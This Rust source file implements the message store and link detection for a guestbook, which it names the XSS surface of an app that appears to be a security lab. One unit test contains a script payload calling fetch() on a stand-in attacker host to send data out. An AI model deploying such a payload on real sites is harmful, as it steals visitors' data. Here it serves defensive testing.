//! The guestbook: the app's one place where users' text reaches other users'
//! pages (the XSS surface). In memory, bounded.

use std::collections::VecDeque;
use std::sync::Mutex;

/// Longest message accepted, in characters.
pub const MAX_MESSAGE_CHARS: usize = 2000;
/// Entries kept; the oldest go first.
pub const MAX_ENTRIES: usize = 200;

#[derive(Debug, Clone)]
pub(crate) struct Entry {
    pub author: String,
    pub message: String,
}

/// A run of a message: plain text, or a web address the page shows as a link.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Piece<'a> {
    pub text: &'a str,
    pub is_link: bool,
}

impl Entry {
    /// The message cut into text and links, as forums do: a word starting with
    /// `http://` or `https://` becomes a link (rendered escaped in both modes).
    /// Only whole words, so an address inside markup or a script is left alone.
    pub(crate) fn pieces(&self) -> Vec<Piece<'_>> {
        let message = self.message.as_str();
        let mut pieces = Vec::new();
        let mut text_start = 0;
        let mut word_start = 0;
        let mut push_word = |start: usize, end: usize, text_start: &mut usize| {
            let word = &message[start..end];
            if word.starts_with("http://") || word.starts_with("https://") {
                if *text_start < start {
                    pieces.push(Piece {
                        text: &message[*text_start..start],
                        is_link: false,
                    });
                }
                pieces.push(Piece {
                    text: word,
                    is_link: true,
                });
                *text_start = end;
            }
        };
        for (i, c) in message.char_indices() {
            if c.is_whitespace() {
                push_word(word_start, i, &mut text_start);
                word_start = i + c.len_utf8();
            }
        }
        push_word(word_start, message.len(), &mut text_start);
        if text_start < message.len() {
            pieces.push(Piece {
                text: &message[text_start..],
                is_link: false,
            });
        }
        pieces
    }
}

#[derive(Debug, Default)]
pub(crate) struct Guestbook {
    entries: Mutex<VecDeque<Entry>>,
}

impl Guestbook {
    pub(crate) fn add(&self, entry: Entry) {
        let mut entries = self
            .entries
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner());
        if entries.len() >= MAX_ENTRIES {
            entries.pop_front();
        }
        entries.push_back(entry);
    }

    pub(crate) fn entries(&self) -> Vec<Entry> {
        let entries = self
            .entries
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner());
        entries.iter().cloned().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pieces(message: &str) -> Vec<(String, bool)> {
        let entry = Entry {
            author: "bob".into(),
            message: message.into(),
        };
        entry
            .pieces()
            .into_iter()
            .map(|p| (p.text.to_string(), p.is_link))
            .collect()
    }

    #[test]
    fn whole_words_that_are_web_addresses_become_links() {
        assert_eq!(
            pieces("Deals at http://evil.lab.test/d ok?"),
            [
                ("Deals at ".into(), false),
                ("http://evil.lab.test/d".into(), true),
                (" ok?".into(), false)
            ]
        );
        assert_eq!(
            pieces("https://a.test/"),
            [("https://a.test/".into(), true)]
        );
    }

    #[test]
    fn addresses_inside_markup_or_script_stay_text() {
        let script = "<script>fetch('http://evil.lab.test/c?='+x)</script>";
        assert_eq!(pieces(script), [(script.to_string(), false)]);
    }
}
